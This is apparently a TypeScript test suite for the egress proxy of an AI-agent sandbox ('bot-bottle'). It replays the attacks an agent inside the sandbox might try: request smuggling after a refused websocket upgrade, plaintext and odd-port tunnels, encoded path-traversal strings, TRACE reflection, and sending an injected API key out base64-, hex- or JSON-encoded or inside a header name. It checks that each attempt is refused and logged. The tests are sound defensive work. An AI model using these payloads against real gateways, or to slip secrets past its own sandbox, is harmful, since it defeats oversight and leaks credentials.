/**
 * The outside attack, replayed from inside a real bottle as the agent (uid 1000) against its real
 * bundle and a test-made upstream on a test-made internal network: upgrades the upstream does not
 * honour, cleartext and other ports, path tricks under a paths prefix, reflected credentials,
 * encoded secrets, agent-chosen names. Every refusal is checked at the upstream (it got nothing)
 * and in the audit log; every class has a control that reaches the upstream.
 */
import { randomBytes } from 'node:crypto';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { bundleName } from '@bot-bottle/backend-docker';
import { auditEntry, docker, inBottle, launchBottle, startWorld, type TestBottle, type UpstreamRecord, type World } from './helpers.js';

const test = suite('attacks from inside a real bottle');

const CANARY = `bbattack-${randomBytes(12).toString('hex')}`;
const ctx: { world?: World; b?: TestBottle } = {};

test.before(async () => {
  ctx.world = await startWorld();
  const { url, name } = ctx.world.upstream;
  const manifest = {
    bottles: {
      dev: {
        egress: {
          routes: [
            { host: 'api.example.test', auth: { header: 'x-api-key', env: 'BBTEST_ATTACK_KEY' }, to: url },
            { host: 'open.example.test', to: url },
            { host: 'paths.example.test', paths: ['/v1/'], to: url },
            { host: name, ports: [8443] },
            { host: 'plainok.example.test', schemes: ['http'], to: `http://${name}:8080` },
          ],
        },
      },
    },
    agents: { demo: { bottle: 'dev', provisioners: [] } },
  };
  ctx.b = await launchBottle(ctx.world, manifest, { BBTEST_ATTACK_KEY: CANARY });
});

test.after(async () => {
  await ctx.b?.bottle.destroy().catch(() => undefined);
  await ctx.world?.cleanup();
});

const b = () => ctx.b!;
const got = async (marker: string): Promise<UpstreamRecord[]> => (await ctx.world!.upstream.requests()).filter((r) => r.url.includes(marker));

test('upgrade: an upstream that answers 200 to an upgrade gets the upgrade request only; the DELETE sent after it never arrives', async () => {
  const script = `(printf 'GET /noupgrade?case=up HTTP/1.1\\r\\nHost: api.example.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n'; sleep 1; printf 'DELETE /echo?case=up-smuggled HTTP/1.1\\r\\nHost: api.example.test\\r\\nContent-Length: 0\\r\\n\\r\\n'; sleep 2) | openssl s_client -proxy 127.0.0.1:3128 -connect api.example.test:443 -servername api.example.test -quiet 2>/dev/null`;
  const r = await inBottle(b(), script, 30_000);
  assert.match(r.stdout, /^HTTP\/1\.1 200/);
  assert.match(r.stdout, /no upgrade here/);
  assert.is((await got('case=up')).length, 1, 'control: the upgrade request itself reached the upstream');
  assert.is((await got('case=up-smuggled')).length, 0, 'the request sent after a refused upgrade never reached the upstream');
  const e = await auditEntry(b(), (x) => x.path === '/noupgrade?case=up');
  assert.match(e.reason!, /instead of switching protocols/);
});

test('cleartext: the injected credential never goes over plain http, and other ports of a routed host are closed', async () => {
  const { name } = ctx.world!.upstream;
  const tries: [string, RegExp][] = [
    // Absolute-form http:// to a route without "http" in schemes.
    ['curl -sS -o /dev/null -w "%{http_code}" http://api.example.test/echo?case=clear-abs', /^403$/],
    // A tunnel to :80, and plain HTTP inside a tunnel to :443.
    ['curl -sS -o /dev/null -w "%{http_code}" -p http://api.example.test/echo?case=clear-80; echo " exit=$?"', /^000 exit=56|403/],
    // The socket stays open after the request (no half-close), until the gateway answers and closes.
    [`node -e "const s=require('net').connect(3128,'127.0.0.1',()=>s.write('CONNECT api.example.test:443 HTTP/1.1\\r\\nHost: api.example.test:443\\r\\n\\r\\n'));let t='';s.on('data',d=>{t+=d;if(t.endsWith('\\r\\n\\r\\n')&&!s.sent){s.sent=1;s.write('GET /echo?case=clear-443 HTTP/1.1\\r\\nHost: api.example.test\\r\\nConnection: close\\r\\n\\r\\n')}});s.on('close',()=>console.log(JSON.stringify(t)));setTimeout(()=>{console.log(JSON.stringify(t));process.exit(1)},15000)"`, /HTTP\/1\.1 403/],
    // Other ports, with and without "to".
    ['curl -sS -o /dev/null -w "%{http_code}" https://api.example.test:8443/echo?case=port-to; echo " exit=$?"', /exit=56/],
    [`curl -sS -o /dev/null -w "%{http_code}" https://${name}:8080/echo?case=port-direct; echo " exit=$?"`, /exit=56/],
    [`curl -sS -o /dev/null -w "%{http_code}" http://${name}:8080/echo?case=port-plain`, /^403$/],
  ];
  for (const [script, want] of tries) {
    const r = await inBottle(b(), script);
    assert.match(r.stdout, want, `${script}\n${r.stdout}${r.stderr}`);
  }
  for (const marker of ['case=clear', 'case=port']) assert.is((await got(marker)).length, 0, `${marker}: the upstream got nothing`);
  // The upstream does answer there: from the bundle, which has the network the bottle lacks.
  const fromBundle = await docker(['exec', bundleName(b().plan.slug), 'curl', '-sS', `http://${name}:8080/echo?case=control-8080`]);
  assert.match(fromBundle.stdout, /^echo GET \/echo/, `control: ${fromBundle.stdout}${fromBundle.stderr}`);
  // Controls from the bottle: the declared port, and a route that opts in to plain http.
  const direct = await inBottle(b(), `curl -sS https://${name}:8443/echo?case=control-direct`);
  assert.is(direct.stdout, 'echo GET /echo\n', direct.stderr);
  const plain = await inBottle(b(), 'curl -sS http://plainok.example.test/echo?case=control-plain');
  assert.is(plain.stdout, 'echo GET /echo\n', plain.stderr);
  const e = await auditEntry(b(), (x) => x.path.includes('case=clear-abs'));
  assert.match(e.reason!, /allows https only/);
  await auditEntry(b(), (x) => x.method === 'CONNECT' && x.path === 'api.example.test:8443' && /port 8443/.test(x.reason ?? ''));
});

test('paths: every traversal form is refused under a paths prefix; the upstream sees only the control', async () => {
  const attacks = ['/v1/..;/admin', '/v1/%2e%2e;/admin', '/v1/%252e%252e/admin', '/v1/%c0%ae%c0%ae/admin', '/v1/%u002e%u002e/admin', '/v1/..%00/admin', '/v1/../admin', '/v1/%2e%2e/admin', '/v1/%2fadmin'];
  for (const a of attacks) {
    const r = await inBottle(b(), `curl -sS --path-as-is -o /dev/null -w "%{http_code}" 'https://paths.example.test${a}?case=path'`);
    assert.match(r.stdout, /^(403|400)$/, `${a}: ${r.stdout}${r.stderr}`);
  }
  // A fragment, sent raw (curl would strip it).
  const frag = await inBottle(b(), `(printf 'GET /v1/x#/../../admin?case=path HTTP/1.1\\r\\nHost: paths.example.test\\r\\nConnection: close\\r\\n\\r\\n'; sleep 2) | openssl s_client -proxy 127.0.0.1:3128 -connect paths.example.test:443 -servername paths.example.test -quiet 2>/dev/null`, 30_000);
  assert.match(frag.stdout, /^HTTP\/1\.1 400/);
  assert.is((await got('case=path')).length, 0);
  const ok = await inBottle(b(), `curl -sS -o /dev/null -w "%{http_code}" 'https://paths.example.test/v1/ok?case=control-path'`);
  assert.is(ok.stdout, '404', 'control: the upstream answered (it has no /v1/ok)');
  assert.is((await got('case=control-path')).length, 1);
});

test('reflection: an echoing upstream hands back stars, not the credential; TRACE is refused unless named', async () => {
  const r = await inBottle(b(), 'curl -sS https://api.example.test/reflect?case=reflect');
  assert.is(r.exitCode, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`x-api-key: \\*{${CANARY.length}}\\n`), r.stdout);
  assert.not.ok(r.stdout.includes(CANARY));
  assert.ok((await got('case=reflect'))[0]!.headers['x-api-key'] === CANARY, 'control: the upstream did get the real value');
  const trace = await inBottle(b(), 'curl -sS -X TRACE -o /dev/null -w "%{http_code}" https://api.example.test/reflect?case=trace');
  assert.is(trace.stdout, '403');
  assert.is((await got('case=trace')).length, 0);
  const e = await auditEntry(b(), (x) => x.path === '/reflect?case=reflect');
  assert.match(e.reason!, /redacted 1 copies of an injected credential/);
});

test('DLP: the credential in base64, hex or JSON escapes, and in a header name, is refused to any host', async () => {
  const forms = {
    b64: Buffer.from(`ab${CANARY}`).toString('base64'),
    hex: Buffer.from(CANARY).toString('hex'),
    json: [...CANARY].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  };
  for (const [k, f] of Object.entries(forms)) {
    const body = await b().bottle.target.exec(['sh', '-c', `curl -sS -o /dev/null -w "%{http_code}" --data-binary @- https://open.example.test/echo?case=dlp-${k}`], { user: 'node', stdin: `{"data":"${f}"}` });
    assert.is(body.stdout, '403', `${k}: ${body.stdout}${body.stderr}`);
  }
  const name = await b().bottle.target.exec(['sh', '-c', `curl -sS -o /dev/null -w "%{http_code}" -H "x-$(cat):1" https://open.example.test/echo?case=dlp-name`], { user: 'node', stdin: CANARY });
  assert.is(name.stdout, '403');
  assert.is((await got('case=dlp')).length, 0);
  const e = await auditEntry(b(), (x) => x.path === '/echo?case=dlp-name');
  assert.match(e.reason!, /dlp: the value of BBTEST_ATTACK_KEY in the header names/);
});

test('names: no certificate for an unrouted name, no lookup of agent-made labels', async () => {
  const s = await inBottle(b(), 'openssl s_client -proxy 127.0.0.1:3128 -connect unrouted.example.invalid:443 -servername unrouted.example.invalid </dev/null 2>&1; echo "exit=$?"');
  assert.not.match(s.stdout, /BEGIN CERTIFICATE|subject=/);
  const e = await auditEntry(b(), (x) => x.method === 'CONNECT' && x.host === 'unrouted.example.invalid');
  assert.equal([e.decision, e.status], ['deny', 403]);
  for (const url of ['http://..x.example.invalid/', 'http://a..open.example.test/']) {
    const r = await inBottle(b(), `curl -sS -o /dev/null -w "%{http_code}" '${url}'`);
    assert.match(r.stdout, /^40[03]$/, url);
  }
  await auditEntry(b(), (x) => /is not a DNS name/.test(x.reason ?? ''));
});

test.run();
